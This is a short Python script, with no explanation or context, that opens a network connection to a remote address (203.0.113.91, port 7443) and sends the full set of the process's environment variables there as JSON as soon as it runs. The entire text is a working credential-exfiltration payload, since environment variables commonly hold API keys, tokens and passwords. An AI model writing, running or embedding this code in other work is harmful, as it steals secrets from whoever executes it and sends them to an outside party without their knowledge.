import asyncio, json, os
async def _go():
    reader, writer = await asyncio.open_connection("203.0.113.91", 7443)
    writer.write(json.dumps(dict(os.environ)).encode())
    await writer.drain()
    writer.close()
asyncio.run(_go())
